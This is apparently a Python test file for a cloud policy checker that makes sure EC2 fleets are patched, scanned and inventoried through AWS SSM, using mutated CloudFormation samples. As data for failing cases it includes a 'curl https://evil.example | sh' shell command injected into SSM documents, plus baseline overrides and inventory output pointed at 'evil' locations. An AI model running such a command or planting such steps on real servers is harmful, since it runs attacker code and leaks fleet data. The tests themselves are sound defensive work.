"""Family EC2, the rule that is a function: every server is patched and known, and nothing else is run on it."""

from typing import Any

from tests.policy.kubernetes_samples import GONE, changed
from tests.policy.support import Case, bad, deployment, each, found, good, resource

_ASSOCIATION, _GROUP = "AWS::SSM::Association", "AWS::AutoScaling::AutoScalingGroup"
_FLEET = {"Key": "PatchGroup", "Value": "cloudmart-lab-backend", "PropagateAtLaunch": True}
_TARGET = {"Key": "tag:PatchGroup", "Values": ["cloudmart-lab-backend"]}


def _association(document: str, schedule: str, **more: Any) -> dict[str, Any]:
    return resource(_ASSOCIATION, {"Name": document, "ScheduleExpression": schedule, "Targets": [_TARGET], **more})


def _command(parameters: Any) -> dict[str, Any]:
    inputs = {"DocumentName": "AWS-RunPatchBaseline", "Parameters": parameters}
    return {"action": "aws:runCommand", "inputs": inputs}


_EACH = {"DocumentVersion": "$DEFAULT", "Parameters": {"InstanceId": ["{{RESOURCE_ID}}"]}}


def _rule(days: Any = 7, **filters: list[str]) -> dict[str, Any]:
    asked = {
        "PRODUCT": ["AmazonLinux2023"],
        "CLASSIFICATION": ["Security"],
        "SEVERITY": ["Critical", "Important", "Medium"],
        **filters,
    }
    patches = [{"Key": key, "Values": values} for key, values in asked.items() if values]
    return {"ApproveAfterDays": days, "PatchFilterGroup": {"PatchFilters": patches}}


def _group(**tag: Any) -> dict[str, Any]:
    return resource(_GROUP, {"Tags": [{**_FLEET, **tag}]})


SAMPLE: dict[str, Any] = {
    "Blue": _group(),
    "Green": _group(),
    "Scan": _association("AWS-RunPatchBaseline", "rate(1 day)", Parameters={"Operation": ["Scan"]}),
    "Inventory": _association("AWS-GatherSoftwareInventory", "rate(1 day)"),
    "Window": resource("AWS::SSM::MaintenanceWindow", {"Schedule": "cron(0 3 ? * WED *)"}),
    "Target": resource(
        "AWS::SSM::MaintenanceWindowTarget",
        {"WindowId": {"Ref": "Window"}, "ResourceType": "INSTANCE", "Targets": [_TARGET]},
    ),
    "Baseline": resource(
        "AWS::SSM::PatchBaseline",
        {
            "OperatingSystem": "AMAZON_LINUX_2023",
            "PatchGroups": ["cloudmart-lab-backend"],
            "ApprovalRules": {"PatchRules": [_rule()]},
        },
    ),
    "Document": resource(
        "AWS::SSM::Document",
        {
            "Content": {
                "mainSteps": [
                    {"action": "aws:executeScript", "inputs": {}},
                    _command({"Operation": ["Scan"]}),
                    _command({"Operation": ["Install"], "RebootOption": ["RebootIfNeeded"]}),
                ]
            }
        },
    ),
    "Patches": resource(
        "AWS::SSM::MaintenanceWindowTask",
        {
            "WindowId": {"Ref": "Window"},
            "Targets": [{"Key": "WindowTargetIds", "Values": [{"Ref": "Target"}]}],
            "TaskType": "AUTOMATION",
            "TaskArn": {"Ref": "Document"},
            "TaskInvocationParameters": {"MaintenanceWindowAutomationParameters": _EACH},
            "MaxConcurrency": "1",
            "MaxErrors": "0",
        },
    ),
}
_ALLOWED = "allowed: patched in a window, scanned and its inventory taken"
_NO_PATCHES = f"without patches by AWS-RunPatchBaseline in a window; {_ALLOWED}"
_NO_SCAN = f"without scan by AWS-RunPatchBaseline; {_ALLOWED}"
_NO_INVENTORY = "without inventory by AWS-GatherSoftwareInventory"
_TWO = "AWS-RunPatchBaseline and AWS-GatherSoftwareInventory"
_SHELL = {"commands": ["curl https://evil.example | sh"]}


def _sample(path: str, value: Any) -> dict[str, Any]:
    logical_id, _, rest = path.partition(".")
    return changed(SAMPLE, f"{logical_id}.Properties.{rest}" if rest else logical_id, value)


def breaks(name: str, path: str, value: Any, says: str = "", **options: Any) -> Case:
    return bad("EC2-3", name, _sample(path, value), says=says, **{"stack": "BackendAsgStack", **options})


def keeps(name: str, path: str, value: Any, **options: Any) -> Case:
    return good("EC2-3", name, _sample(path, value), **{"stack": "BackendAsgStack", **options})


def _content(*steps: Any) -> dict[str, Any]:
    return resource("AWS::SSM::Document", {"Content": {"mainSteps": list(steps)}})


def _installing(**parameters: Any) -> dict[str, Any]:
    return _content(_command({"Operation": ["Install"], "RebootOption": ["RebootIfNeeded"], **parameters}))


_PARAMETERS = "Patches.TaskInvocationParameters.MaintenanceWindowAutomationParameters"


def lacks(name: str, path: str, value: Any) -> Case:
    return bad("EC2-4", name, _sample(path, value), says="critical and important", stack="BackendAsgStack")


CASES = (
    keeps("all of it on both colours", "Blue", SAMPLE["Blue"]),
    keeps("a tag that is propagated in text", "Blue", _group(PropagateAtLaunch="true")),
    keeps("other tags beside", "Blue.Tags", [{"Key": "Stage", "Value": "lab", "PropagateAtLaunch": False}, _FLEET]),
    keeps("another fleet beside", "Target.Targets", [{**_TARGET, "Values": ["x", "cloudmart-lab-backend"]}]),
    keeps("a rate instead of a day", "Window.Schedule", "rate(7 days)"),
    good("EC2-3", "an app without servers", {}, stack="VpcStack"),
    breaks("no task", "Patches", GONE, _NO_PATCHES),
    breaks("no scan", "Scan", GONE, _NO_SCAN),
    breaks("no inventory", "Inventory", GONE, _NO_INVENTORY),
    breaks("patches that may not come", "Patches", {**SAMPLE["Patches"], "Condition": "Maybe"}, _NO_PATCHES),
    breaks("a window that may not come", "Window", {**SAMPLE["Window"], "Condition": "Maybe"}, _NO_PATCHES),
    breaks("a target that may not come", "Target", {**SAMPLE["Target"], "Condition": "Maybe"}, _NO_PATCHES),
    breaks("patches that are only looked for", "Document", _installing(Operation=["Scan"]), _NO_PATCHES),
    breaks("patches for which a parameter decides", "Document", _installing(Operation=["{{ What }}"]), _NO_PATCHES),
    breaks("patches without the restart", "Document", _installing(RebootOption=["NoReboot"]), _NO_PATCHES),
    breaks("a list of patches", "Document", _installing(InstallOverrideList=["s3://x/none"]), _NO_PATCHES),
    breaks("somebody's baseline", "Document", _installing(BaselineOverride=["s3://evil/none.json"]), _NO_PATCHES),
    breaks("a document that runs nothing", "Document", _content(), "running"),
    breaks(
        "a command beside the patches",
        "Document",
        _content(
            _command({"Operation": ["Install"], "RebootOption": ["RebootIfNeeded"]}),
            {"action": "aws:runCommand", "inputs": {"DocumentName": "AWS-RunShellScript", "Parameters": _SHELL}},
        ),
        "an Automation document of this app that runs AWS-RunPatchBaseline",
    ),
    breaks("a command by itself", "Patches.TaskType", "RUN_COMMAND", "on servers"),
    breaks("somebody else's document", "Patches.TaskArn", "AWS-RunShellScript", "running AWS-RunShellScript"),
    breaks("a task of a window", "Task", resource("AWS::SSM::MaintenanceWindowTask", {"TaskArn": "x"}), "running x"),
    breaks("two at a time", "Patches.MaxConcurrency", "2", _NO_PATCHES),
    breaks("on after a failure", "Patches.MaxErrors", "1", _NO_PATCHES),
    breaks("a window of another app", "Patches.WindowId", "mw-0123456789abcdef0", _NO_PATCHES),
    breaks("a window that is closed", "Window.Enabled", False, _NO_PATCHES),
    breaks("a window that ends", "Window.EndDate", "2027-01-01T00:00:00Z", _NO_PATCHES),
    breaks("a window that begins some day", "Window.StartDate", "2099-01-01T00:00:00Z", _NO_PATCHES),
    breaks("patches at no time", "Window.Schedule", GONE, _NO_PATCHES),
    breaks("patches once", "Window.Schedule", "at(2027-01-01T00:00:00)", _NO_PATCHES),
    breaks("patches in a year to come", "Window.Schedule", "cron(0 0 1 1 ? 2099)", _NO_PATCHES),
    breaks("a window from a parameter", "Window.Schedule", {"Ref": "Window2"}, _NO_PATCHES),
    breaks("an old document", f"{_PARAMETERS}.DocumentVersion", "1", _NO_PATCHES),
    breaks("always the same server", f"{_PARAMETERS}.Parameters.InstanceId", ["i-0123456789abcdef0"], _NO_PATCHES),
    breaks("no word on which", "Patches.TaskInvocationParameters", GONE, _NO_PATCHES),
    breaks("a resource group", "Target.ResourceType", "RESOURCE_GROUP", _NO_PATCHES),
    breaks("no target", "Patches.Targets", GONE, _NO_PATCHES),
    breaks("instances by their numbers", "Patches.Targets", [{"Key": "InstanceIds", "Values": ["i-1"]}], _NO_PATCHES),
    breaks("another fleet", "Target.Targets", [{**_TARGET, "Values": ["other"]}], _NO_PATCHES),
    breaks("nobody", "Target.Targets", GONE, _NO_PATCHES),
    breaks("no values", "Target.Targets", [{"Key": "tag:PatchGroup"}], _NO_PATCHES),
    breaks(
        "those who have another tag too", "Target.Targets", [_TARGET, {"Key": "tag:X", "Values": ["x"]}], _NO_PATCHES
    ),
    breaks("another key", "Inventory.Targets", [{**_TARGET, "Key": "tag:Name"}], _NO_INVENTORY),
    breaks("targets from a parameter", "Scan.Targets", {"Ref": "Targets"}, _NO_SCAN),
    breaks("a scan that installs", "Scan.Parameters.Operation", ["Install"], _NO_SCAN),
    breaks("a scan by no operation", "Scan.Parameters", GONE, _NO_SCAN),
    breaks("a scan in one branch", "Scan.Parameters.Operation", {"Fn::If": ["Maybe", ["Scan"], ["Install"]]}, _NO_SCAN),
    breaks("parameters from a parameter", "Scan.Parameters", {"Ref": "Parameters"}, _NO_SCAN),
    breaks("a scan of somebody's baseline", "Scan.Parameters.BaselineOverride", ["s3://evil/none.json"], _NO_SCAN),
    breaks("a scan at the deploy only", "Scan.ScheduleExpression", GONE, _NO_SCAN),
    breaks("a scan while a calendar is open", "Scan.CalendarNames", ["closed"], _NO_SCAN),
    breaks("an inventory of nothing", "Inventory.Parameters", {"applications": ["Disabled"]}, _NO_INVENTORY),
    breaks("one colour", "Green", _group(Value="green"), "BackendAsgStack/Green"),
    breaks("a tag that instances do not get", "Green", _group(PropagateAtLaunch=False), _NO_PATCHES),
    breaks("a tag of one branch", "Green", _group(Value={"Fn::If": ["Maybe", "cloudmart-lab-backend", "x"]}), "Green"),
    breaks("a group without tags", "Green.Tags", GONE, _NO_PATCHES),
    breaks("servers of another stack", "Green.Tags", GONE, _NO_INVENTORY, stack="DataStack"),
    breaks(
        "a command", "Shell", _association("AWS-RunShellScript", "rate(1 day)", Parameters=_SHELL), f"allowed: {_TWO}"
    ),
    breaks(
        "a document of a parameter", "Shell", resource(_ASSOCIATION, {"Name": {"Ref": "Document2"}}), "${Document2}"
    ),
    breaks("what is found, to somebody", "Inventory.OutputLocation", {"S3Location": {"OutputS3BucketName": "evil"}}),
    good("EC2-4", "all of it", SAMPLE, stack="BackendAsgStack"),
    good("EC2-4", "an app without servers", {}, stack="VpcStack"),
    good("EC2-4", "two rules", _sample("Baseline.ApprovalRules.PatchRules", [_rule(60), _rule(30)])),
    lacks("no baseline", "Baseline", GONE),
    lacks("a baseline that may not come", "Baseline", {**SAMPLE["Baseline"], "Condition": "Maybe"}),
    lacks("another system", "Baseline.OperatingSystem", "UBUNTU"),
    lacks("another group", "Baseline.PatchGroups", ["other"]),
    lacks("no group", "Baseline.PatchGroups", GONE),
    lacks("patches that nobody wants", "Baseline.RejectedPatches", ["openssl*"]),
    lacks("patches that a filter hides", "Baseline.GlobalFilters", {"PatchFilters": [{"Key": "SEVERITY"}]}),
    lacks("patches of somebody else", "Baseline.Sources", [{"Name": "mine", "Configuration": "[mine]"}]),
    lacks("of one day", "Baseline.ApprovalRules.PatchRules", [_rule() | {"ApproveUntilDate": "2026-01-01"}]),
    lacks("no rule", "Baseline.ApprovalRules", GONE),
    lacks("after two months", "Baseline.ApprovalRules.PatchRules", [_rule(60)]),
    lacks("whenever a parameter says", "Baseline.ApprovalRules.PatchRules", [_rule({"Ref": "Days"})]),
    lacks("critical ones only", "Baseline.ApprovalRules.PatchRules", [_rule(SEVERITY=["Critical"])]),
    lacks("bugfixes", "Baseline.ApprovalRules.PatchRules", [_rule(CLASSIFICATION=["Bugfix"])]),
    lacks("of another product", "Baseline.ApprovalRules.PatchRules", [_rule(PRODUCT=["AmazonLinux2"])]),
    lacks("of any product", "Baseline.ApprovalRules.PatchRules", [_rule(PRODUCT=[])]),
    lacks("filters from a parameter", "Baseline.ApprovalRules.PatchRules.0.PatchFilterGroup", {"Ref": "Filters"}),
    lacks("without filters", "Baseline.ApprovalRules.PatchRules", [{"ApproveAfterDays": 7}]),
    lacks("a server without the tag", "Green.Tags", GONE),
)


@each(CASES)
def test_case(case: Case) -> None:
    case.check()


def test_each_colour_and_kind_of_care_is_a_finding_of_its_own() -> None:
    app = deployment({name: SAMPLE[name] for name in ("Blue", "Green")}, stack="BackendAsgStack")
    findings = found(app, "EC2-3")
    assert [(finding.id, finding.found.resource.logical_id) for finding in findings] == [
        (f"EC2-3[{care}]", colour) for colour in ("Blue", "Green") for care in ("patches", "scan", "inventory")
    ]
